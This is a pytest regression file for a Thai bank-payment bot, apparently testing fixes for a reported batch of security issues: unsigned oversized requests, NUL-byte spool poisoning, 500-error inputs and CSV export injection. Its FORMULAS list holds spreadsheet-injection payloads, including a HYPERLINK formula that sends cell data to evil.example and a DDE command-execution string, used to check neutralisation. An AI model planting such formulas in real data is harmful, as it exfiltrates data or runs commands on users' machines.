"""What an anonymous caller sends cannot break the proof, fill the disk or the database, or learn
a staff name (issue 28): each reproduction as it was reported, refused with nothing changed."""
from __future__ import annotations

import csv
import io
import json
import logging

import pytest
from sqlalchemy import func, select
from sqlalchemy.exc import DataError, IntegrityError, OperationalError

from bot.bank import service
from bot.bank.spool import Spool, SpoolFull
from bot.core.cells import code_cell, neutralised
from bot.data.models import BankMessage, StaffSession
from bot.ledger.audit import verify
from tests.conftest import BANK_SECRET, invoice_row


def _count(db, model) -> int:
    with db.sessions() as s:
        return s.scalar(select(func.count()).select_from(model))


def _intact(db) -> bool:
    with db.sessions() as s:
        verdict = verify(s, BANK_SECRET)
    return not verdict.problems


def _spooled(app) -> list:
    return sorted(p.name for p in app.extensions["tisi"].spool.directory.glob("*")) \
        if app.extensions["tisi"].spool.directory.exists() else []


# 1. One anonymous request broke `audit verify` for ever.
def test_an_oversized_unsigned_bank_request_leaves_nothing_verify_checks(client, bank, db, app):
    big = json.dumps({"x": "a" * 70_000}).encode()
    answer = bank.post(None, raw=big, timestamp="1", signature="0" * 64)
    assert answer.status_code == 400 and answer.get_json()["respCode"] == "2002"
    assert _count(db, BankMessage) == 0 and _spooled(app) == []
    assert _intact(db)


def test_rows_an_earlier_release_stored_unauthenticated_verify_intact(db, seed, bank):
    """Before 0.2 a size refusal was stored with the caller's signature header: verify skips such
    rows (the rule in bot.ledger.audit), so a database that holds them verifies intact."""
    seed(invoice_row(1))
    with db.transaction() as s:
        s.add(BankMessage(request_body="a" * 65536, http_status=400, resp_code="2002",
                          response_body='{"respCode":"2002","respMsg":"malformed body or field: body too large",'
                                        '"tranxId":"TISI1"}', bank_timestamp="1", bank_signature="0" * 64))
    assert _intact(db)
    with db.transaction() as s:  # an authenticated-looking message with a wrong signature still fails
        s.add(BankMessage(request_body="{}", http_status=400, resp_code="2002",
                          response_body='{"respCode":"2002","respMsg":"malformed body or field: command must be a '
                                        'string","tranxId":"TISI2"}', bank_timestamp="1", bank_signature="0" * 64))
    assert not _intact(db)


# 2. An anonymous NUL byte poisoned the outage spool.
def test_an_unsigned_nul_byte_is_refused_before_authentication_and_never_spooled(client, bank, db, app, seed, caplog):
    rows = seed(invoice_row(1))
    caplog.set_level(logging.INFO)
    answer = bank.post(None, raw=b'{"x":"\x00"}', timestamp="1", signature="0" * 64)
    assert answer.status_code == 401 and answer.get_json()["respCode"] == "2001"  # refused from its headers
    signed_nul = bank.post(None, raw=b'{"x":"\x00"}')  # even signed: no bank message holds a NUL
    assert signed_nul.status_code == 400 and signed_nul.get_json()["respCode"] == "2002"
    not_utf8 = bank.post(None, raw=b'{"x":"\xff\xfe"}')
    assert not_utf8.status_code == 400 and not_utf8.get_json()["respCode"] == "2002"
    assert _spooled(app) == [] and _count(db, BankMessage) == 0
    assert "spool" not in caplog.text and "unavailable" not in caplog.text
    inquiry = bank.post(bank.body("inquiry", rows[0]))
    assert inquiry.get_json()["respCode"] == "0000"
    assert _count(db, BankMessage) == 1 and _intact(db)


def test_only_an_outage_is_taken_for_an_outage():
    assert service.database_down(OperationalError("SELECT 1", {}, Exception("connection refused")))
    assert not service.database_down(DataError("INSERT", {}, Exception("NUL (0x00) bytes")))
    assert not service.database_down(IntegrityError("INSERT", {}, Exception("duplicate")))


def test_the_spool_is_bounded_and_a_full_spool_keeps_nothing_more(tmp_path, caplog):
    spool = Spool(tmp_path / "spool", max_bytes=2000)
    kept = 0
    with pytest.raises(SpoolFull):
        for i in range(100):
            spool.append(command="payment", bank_code="006", bank_ref=f"R{i}", request_body=b"{" + b"x" * 300 + b"}",
                          http_status=500, resp_code="9999", response_body=b"{}", signed=("1", "a" * 64))
            kept += 1
    assert 0 < kept < 100 and spool.size <= 2000 and spool.full and spool.refused_writes == 1

    down = _unreachable_database()
    caplog.set_level(logging.WARNING)
    service.log_refusal(down, b"{}", 500, b'{"respCode":"9999"}', spool=spool)
    assert "NOT kept" in caplog.text and spool.size <= 2000
    down.dispose()


def _unreachable_database():
    from bot.data.db import Database

    return Database("postgresql+psycopg://postgres@127.0.0.1:1/nothing")


def test_health_says_when_the_bank_spool_is_full(tmp_path, monkeypatch):
    from bot.cli import _bank_spool

    spool = Spool(tmp_path / "spool", max_bytes=10 * 1024 * 1024)
    for i in range(20):
        spool.append(command="payment", bank_code="006", bank_ref=f"R{i}", request_body=b"{" + b"x" * 60_000 + b"}",
                     http_status=500, resp_code="9999", response_body=b"{}", signed=("1", "a" * 64))
    monkeypatch.setenv("BANK_SPOOL_DIR", str(tmp_path / "spool"))
    monkeypatch.setenv("BANK_SPOOL_MAX_MB", "100")
    assert _bank_spool()[0] is None
    monkeypatch.setenv("BANK_SPOOL_MAX_MB", "1")
    problem, used = _bank_spool()
    assert used > 1024 * 1024 and "bank spool is full" in problem


def test_a_spool_file_the_database_refuses_for_its_content_is_set_aside(tmp_path, db):
    spool = Spool(tmp_path / "spool")
    spool.append(command="payment", bank_code="006", bank_ref="R1", request_body=b"{}", http_status=500,
                 resp_code="9999", response_body=b"{}", signed=("1", "a" * 64))
    path = spool.directory / "messages.jsonl"
    path.write_text(path.read_text().replace('"resp_code":"9999"', '"resp_code":"99999999"'))  # too long a code
    if db.engine.dialect.name == "sqlite":
        pytest.skip("SQLite keeps a string longer than its column")
    spool.replay(db)
    assert [p.name.endswith(".refused") for p in spool.directory.glob("*")] == [True]
    assert not spool.pending and _count(db, BankMessage) == 0


# 3. Unlimited anonymous writes to an append-only table.
def test_unsigned_bank_requests_write_nothing(client, bank, db, app):
    for i in range(60):
        answer = bank.post(None, raw=json.dumps({"n": i, "pad": "x" * 60_000}).encode(), signature="f" * 64)
        assert answer.status_code == 401 and answer.get_json()["respCode"] == "2001"
    assert _count(db, BankMessage) == 0 and _spooled(app) == [] and _intact(db)


# 4. The staff export did not neutralise formulas.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\tTAB", "\rCR"]


def test_cells_that_a_spreadsheet_would_run_are_neutralised():
    for value in FORMULAS:
        assert neutralised(value) == "'" + value
    assert neutralised("บริษัท ไทย จำกัด") == "บริษัท ไทย จำกัด" and neutralised(None) == ""
    assert code_cell("2568110400012345") == '="2568110400012345"' and code_cell("006") == '="006"'
    assert code_cell("68110001") == "68110001" and code_cell("ท5137-2/10") == "ท5137-2/10"
    assert code_cell("=1+1") == "'=1+1" and code_cell("๐๐๖") == "๐๐๖"  # only ASCII digits go in a formula


def test_the_export_neutralises_payer_names(seed, bank, signed_in):
    rows = seed(*[invoice_row(i, payer_name=name) for i, name in enumerate(FORMULAS[:4], start=1)])
    for row in rows:
        assert bank.post(bank.body("payment", row)).get_json()["respCode"] == "0000"
    client = signed_in("finance")
    day = "2026-11-25"
    answer = client.post("/staff/export", {"first": day, "last": day}, token_from="/staff/export")
    table = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    names = {r[6] for r in table[1:]}
    assert names == {"'" + n for n in FORMULAS[:4]}
    assert all(not cell.startswith(("=", "+", "-", "@")) or cell.startswith('="') for r in table[1:] for cell in r)
    assert {r[10] for r in table[1:]} == {'="006"'}  # the bank code keeps its zeros


# 6. Input that got a 500.
@pytest.mark.parametrize("method,path,data", [
    ("POST", "/staff/sign-in", {"name": "a\x00b", "password": "x", "code": "1"}),
    ("GET", "/staff/reconciliation/99999999999999999999", None),
    ("GET", "/staff/conversations/99999999999999999999", None),
    ("GET", "/staff/invoice/%00", None),
    ("POST", "/staff/queues/notice/99999999999999999999/retry", {}),
    ("POST", "/staff/queues/event/99999999999999999999/push", {}),
    ("POST", "/staff/conversations/99999999999999999999/reply", {"text": "x"}),
    ("POST", "/staff/conversations/99999999999999999999/close", {}),
    ("POST", "/staff/export", {"first": "9999-12-01", "last": "9999-12-31"}),
    ("POST", "/staff/export", {"first": "0001-01-01", "last": "0001-01-02"}),
    ("POST", "/staff/accounts/%00x/disable", {}),
])
def test_console_input_that_gave_a_500(signed_in, method, path, data):
    client = signed_in("admin")
    if method == "GET":
        answer = client.client.get(path)
    else:
        answer = client.post(path, data, token_from="/staff/")
    assert 400 <= answer.status_code < 500, (path, answer.status_code)


def test_export_errors_say_what_is_wrong(signed_in):
    client = signed_in("finance")
    said = {}
    for first, last in (("2026-11-26", "2026-11-25"), ("2024-01-01", "2026-01-01"), ("9999-12-01", "9999-12-31"),
                        ("yesterday", "")):
        answer = client.post("/staff/export", {"first": first, "last": last}, token_from="/staff/export")
        assert answer.status_code == 400
        said[first] = answer.get_data(as_text=True)
    assert "สลับ" in said["2026-11-26"] and "ไม่เกิน 366 วัน" in said["2024-01-01"]
    assert "2000" in said["9999-12-01"] and "เช่น" in said["yesterday"]


def test_api_input_that_gave_a_500(client):
    from tests.conftest import API_TOKEN

    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    for answer in (client.get("/api/v1/invoices/%00", headers=auth),
                   client.post("/api/v1/invoices/%00/cancel", json={"reason": "x"}, headers=auth),
                   client.get("/track/x%00y"), client.get("/qr/%00.png")):
        assert 400 <= answer.status_code < 500


# 7. Every anonymous GET /staff/sign-in inserted a session row.
def test_the_sign_in_page_writes_no_session_row(app, db):
    for _ in range(50):
        assert app.test_client().get("/staff/sign-in").status_code == 200
    assert _count(db, StaffSession) == 0


# 8. No Strict-Transport-Security under https; the token pattern accepted a trailing newline.
def test_hsts_under_https(app, client):
    assert "Strict-Transport-Security" not in client.get("/").headers  # the tests' origin is http
    https = client.get("/", base_url="https://tisi.example")
    assert https.headers["Strict-Transport-Security"].startswith("max-age=31536000")


def test_a_token_with_a_trailing_newline_is_refused(line, seed, client):
    rows = seed(invoice_row(1))
    card = line.say(rows[0]["invoice_no"])[0]
    track = next(b["action"]["uri"] for b in card["contents"]["footer"]["contents"] if "/track/" in b["action"]["uri"])
    path = track.replace("http://127.0.0.1:8080", "")
    assert client.get(path).status_code == 200
    assert client.get(path + "%0a").status_code == 404


def test_a_full_spool_is_shown_on_healthz_and_to_staff(app, client, signed_in):
    spool = app.extensions["tisi"].spool
    spool.max_bytes = 200 * 1024  # smaller than one more message may take: full as soon as one waits
    spool.append(command="payment", bank_code="006", bank_ref="R1", request_body=b"{}", http_status=500,
                 resp_code="9999", response_body=b"{}", signed=("1", "a" * 64))
    app.extensions["tisi"].spool.replay_soon = lambda db: None  # the database "still down" for the replay
    body = client.get("/healthz").get_json()
    assert body["bank_spool_full"] is True and body["bank_spool_bytes"] > 0
    page = signed_in("viewer").client.get("/staff/").get_data(as_text=True)
    assert "ที่พักข้อความธนาคารเต็มแล้ว" in page


def test_replaying_the_spool_never_holds_up_the_request_that_noticed(app, client, bank, seed, monkeypatch):
    import threading
    import time

    rows = seed(invoice_row(1))
    spool = app.extensions["tisi"].spool
    spool.append(command="payment", bank_code="006", bank_ref="R1", request_body=b"{}", http_status=500,
                 resp_code="9999", response_body=b"{}", signed=("1", "a" * 64))
    release = threading.Event()
    monkeypatch.setattr(spool, "replay", lambda db: release.wait(10) and 0)  # a replay that takes its time
    started = time.perf_counter()
    answer = bank.post(bank.body("inquiry", rows[0]))
    took = time.perf_counter() - started
    release.set()
    assert answer.get_json()["respCode"] == "0000" and took < 2.0
